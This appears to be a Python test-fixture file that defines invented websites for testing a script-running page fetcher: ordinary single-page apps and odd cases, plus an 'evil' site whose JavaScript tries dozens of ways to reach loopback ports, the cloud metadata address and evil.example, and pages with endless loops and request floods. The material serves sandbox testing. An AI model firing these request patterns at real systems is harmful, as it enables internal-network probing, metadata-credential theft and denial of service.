"""Invented sites that show themselves only to a browser: honest ones, and ones that abuse it."""

from __future__ import annotations

import json
from collections.abc import Mapping

from tests.site_server import Replies, Reply, text

DATA = "application/json"
SCRIPT = "text/javascript"


def script(source: str) -> Reply:
    return Reply(source, media_type=SCRIPT)


def data(value: object) -> Reply:
    return Reply(json.dumps(value), media_type=DATA)


def shell(source: str, head: str = "") -> str:
    """A page with nothing in it but a script."""
    return f'<!doctype html><html><head>{head}</head><body><div id="app"></div><script>{source}</script></body></html>'


SHOW = 'const show = (html) => { document.getElementById("app").innerHTML = html; };\n'

ROUTER = (
    SHOW
    + """
const menu = '<nav><a href="/cooling">Cooling</a><a href="/power">Power</a></nav>';
const pages = {
  "/": () => show(menu + "<h1>When the power fails</h1><p>We keep your services running.</p><img src=/logo.png>"),
  "/cooling": () => show(menu + "<h1>Too hot for your racks</h1>"),
  "/power": () => fetch("/api/power.json").then((reply) => reply.json())
    .then((page) => { show(`${menu}<h1>${page.title}</h1><p style="font-family: Own">${page.text}</p>`); }),
};
pages[location.pathname]();
"""
)
ROUTED = (
    "<!doctype html><html><head><title>Voltara</title>"
    '<link rel="stylesheet" href="/app.css"><link rel="icon" href="/favicon.ico">'
    '<style>@font-face { font-family: Own; src: url("/own.woff2"); } body { background: url("/back.jpg"); }</style>'
    '<script src="/app.js" defer></script></head>'
    '<body><noscript>Please turn scripts on.</noscript><div id="app"></div></body></html>'
)
APP: Mapping[str, Replies] = {
    "/": ROUTED,
    "/cooling": ROUTED,
    "/power": ROUTED,
    "/app.js": script(ROUTER),
    "/app.css": Reply("body { color: red }", media_type="text/css"),
    "/api/power.json": data({"title": "Two feeds", "text": "No outage in ten years"}),
}

ODD: Mapping[str, Replies] = {
    "/robots.txt": text("User-agent: *\nDisallow: /secret/\n"),
    "/secret/plan.json": data("the secret plan"),
    "/robots": shell(SHOW + 'fetch("/secret/plan.json").then(() => show("got it"), () => show("kept out"));'),
    "/history": shell(SHOW + 'history.replaceState(null, "", "/products?page=2"); show("Products");'),
    "/moves": shell(SHOW + 'show("Before"); location.href = "/elsewhere";'),
    "/elsewhere": "<p>Elsewhere</p>",
    "/hash": shell(
        SHOW + 'const route = () => show(`<a href="#/products">Products</a> at ${location.hash}`); route();'
        'addEventListener("hashchange", route); location.hash = "#/start";'
    ),
    "/shadow": shell(
        'customElements.define("our-card", class extends HTMLElement { connectedCallback() {'
        ' this.attachShadow({mode: "open"}).innerHTML = "<p>In the <b>shadow</b></p><our-inner></our-inner>"; }});'
        'customElements.define("our-inner", class extends HTMLElement { connectedCallback() {'
        ' this.attachShadow({mode: "open"}).innerHTML = "<p>Deeper</p>"; }});'
        'document.getElementById("app").innerHTML = "<our-card></our-card>";'
    ),
    "/framed": shell(SHOW + 'show("<iframe src=/elsewhere></iframe>Around the frame");'),
    "/latin": Reply(
        '<meta charset="iso-8859-1"><div id=app></div><script>app.innerHTML = "Grüße"</script>'.encode("latin-1"),
        media_type="text/html; charset=iso-8859-1",
    ),
    "/huge": shell(SHOW + 'show("<p>much</p>".repeat(40000));'),
    "/late": shell(SHOW + 'setTimeout(() => show("Late but there"), 400);'),
    "/hosted": shell("", '<script src="http://cdn.example/lib.js"></script>'),
    "/moved-part": shell(SHOW + 'fetch("/old.json").then((r) => r.json()).then(show);'),
    "/old.json": Reply("", 302, {"Location": "/new.json"}),
    "/new.json": data("found at its new place"),
    "/asks-agent": shell(SHOW + "show(navigator.userAgent);"),
    "/dialogs": shell(SHOW + 'alert("hello"); confirm("sure?"); open("/elsewhere"); show("Spoke");'),
}
CDN: Mapping[str, Replies] = {
    "/lib.js": script('document.addEventListener("DOMContentLoaded", () => { app.innerHTML = "From the library"; });')
}

TARGETS = """
const targets = ["http://127.0.0.1:PORT/a", "http://127.0.0.1:OTHER/b", "http://169.254.169.254/latest/meta-data/",
  "http://[::1]:PORT/c", "http://localhost:PORT/d", "http://stranger.example/e", "http://evil.example:8081/f",
  "http://user:secret@evil.example/g", "http://0x7f000001:PORT/h", "/to-loopback", "/to-metadata", "/to-stranger",
  "/to-other-port"];
"""
ATTACKS = (
    SHOW
    + TARGETS
    + """
const tries = [
  (to) => fetch(to), (to) => fetch(to, {mode: "no-cors"}), (to) => fetch("/post", {method: "POST", body: to}),
  (to) => fetch(to, {method: "POST", mode: "no-cors", body: "x"}),
  (to) => { const request = new XMLHttpRequest(); request.open("GET", to); request.send(); },
  (to) => { new Image().src = to; }, (to) => navigator.sendBeacon(to, "x"), (to) => new EventSource(to),
  (to) => new WebSocket(to.replace("http", "ws")), (to) => new Worker(to), (to) => import(to), (to) => open(to),
  (to) => add("iframe", {src: to}), (to) => add("script", {src: to}), (to) => add("object", {data: to}),
  (to) => add("embed", {src: to}), (to) => add("video", {src: to, autoplay: true}), (to) => add("audio", {src: to}),
  ...["stylesheet", "prefetch", "preload", "preconnect", "dns-prefetch", "icon", "manifest", "modulepreload",
    "prerender"].map((rel) => (to) => add("link", {rel, as: "script", href: to})),
  (to) => { const it = add("a", {href: to, target: "_blank", ping: to}); it.click(); },
  (to) => { const it = add("form", {action: to, method: "post", target: "_blank"}); it.submit(); },
  (to) => { add("iframe", {srcdoc: `<img src="${to}"><script>fetch("${to}")<\\/script>`}); },
  (to) => new Worker(URL.createObjectURL(new Blob([`fetch("${to}"); importScripts("${to}")`]))),
  (to) => new WebTransport(to.replace("http:", "https:")),
  (to) => { const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
    peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
  (to) => navigator.serviceWorker.register("/worker.js"),
  (to) => { location.href = to; }, (to) => { location.replace(to); },
  (to) => { add("form", {action: to, method: "get"}).submit(); },
  (to) => add("meta", {httpEquiv: "refresh", content: `0;url=${to}`}),
];
const add = (tag, facts) => document.body.appendChild(Object.assign(document.createElement(tag), facts));
show("Nothing to see");
let count = 0;
for (const attempt of tries) for (const to of targets) {
  count += 1;
  try { const made = attempt(to); if (made && made.catch) made.catch(() => {}); } catch (error) { }
}
const note = add("p", {}); note.id = "note"; note.textContent = `tried ${count} ways`;
"""
)


def evil(port: int, other_port: int, udp_port: int) -> dict[str, Replies]:
    """A site whose scripts try to reach what they must not, by these ports of this machine and by redirects."""
    attacks = ATTACKS.replace("PORT", str(port)).replace("OTHER", str(other_port)).replace("UDP", str(udp_port))
    leading = {
        "/to-loopback": f"http://127.0.0.1:{port}/redirected",
        "/to-metadata": "http://169.254.169.254/redirected",
        "/to-stranger": "http://stranger.example/redirected",
        "/to-other-port": f"http://127.0.0.1:{other_port}/redirected",
    }
    redirects: dict[str, Replies] = {path: Reply("", 302, {"Location": to}) for path, to in leading.items()}
    return {"/": shell(attacks), "/worker.js": script("fetch('/from-worker')"), **redirects}


ENDLESS: Mapping[str, Replies] = {
    "/at-once": "<p>Before</p>" + shell("while (true) {}") + "<p>Behind</p>",
    "/again": shell(SHOW + 'show("Over and over"); setInterval(() => { while (true) {} }, 1);'),
    "/after": shell(SHOW + 'show("Some text"); setTimeout(() => { while (true) {} }, 50);'),
    "/reloads": shell(SHOW + 'show("Again"); location.reload();'),
    "/grows": shell(SHOW + 'show("Growing"); setInterval(() => { app.innerHTML += "<p>more</p>"; }, 50);'),
}
FLOOD: Mapping[str, Replies] = {
    "/": shell(
        SHOW + 'show("A flood"); let n = 0; (async () => { for (;;) { n += 1;'
        " try { await fetch(`/drop?${n}`); } catch (error) { await new Promise((go) => setTimeout(go, 1)); } } })();"
    ),
    "/at-once": shell(SHOW + 'show("All at once"); for (let n = 0; n < 5000; n += 1) fetch(`/wave?${n}`);'),
}
